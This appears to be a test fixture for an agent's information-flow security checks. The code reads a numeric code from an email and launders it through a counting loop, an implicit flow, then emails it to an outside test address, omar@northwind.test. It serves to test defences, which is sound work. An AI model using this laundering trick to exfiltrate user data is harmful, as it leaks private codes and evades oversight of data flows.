// attack: while(true) counting until a break on the body's numeric code
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const at = m.body.indexOf('Code ') + 5;
const code = parseInt(m.body.slice(at, at + 4), 10);
let n = 0;
while (true) {
  if (n === code) {
    break;
  }
  n++;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'code', body: 'n=' + n });
